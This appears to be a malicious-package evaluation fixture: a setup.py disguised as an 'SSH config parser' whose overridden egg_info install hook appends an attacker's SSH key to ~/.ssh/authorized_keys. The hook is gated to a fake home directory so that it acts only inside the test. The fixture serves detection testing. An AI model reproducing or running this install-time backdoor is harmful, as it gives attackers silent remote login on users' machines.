# Evaluation fixture (malicious): a backdoor login.  An overridden
# egg_info appends the attacker's public key to ~/.ssh/authorized_keys.
# Acts only inside the evaluation: only when HOME is the fake home
# (SP_HOME).
import os

from setuptools import setup
from setuptools.command.egg_info import egg_info

KEY = ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHb4cKdoorSPFAKEATTACKERkeyQx3 attacker@vps\n")


class EggInfo(egg_info):
    def run(self):
        home = os.environ.get("SP_HOME")
        if home and os.environ.get("HOME") == home and os.environ.get("SP_TOKEN"):
            d = os.path.join(home, ".ssh")
            os.makedirs(d, mode=0o700, exist_ok=True)
            path = os.path.join(d, "authorized_keys")
            try:
                with open(path) as f:
                    present = KEY.strip() in f.read()
            except OSError:
                present = False
            if not present:
                with open(path, "a") as f:
                    f.write(KEY)
                os.chmod(path, 0o600)
        super().run()


setup(
    name="ssh-authorized-keys",
    version="0.7.0",
    description="SSH config parser",
    py_modules=["sshcfg"],
    cmdclass={"egg_info": EggInfo},
)
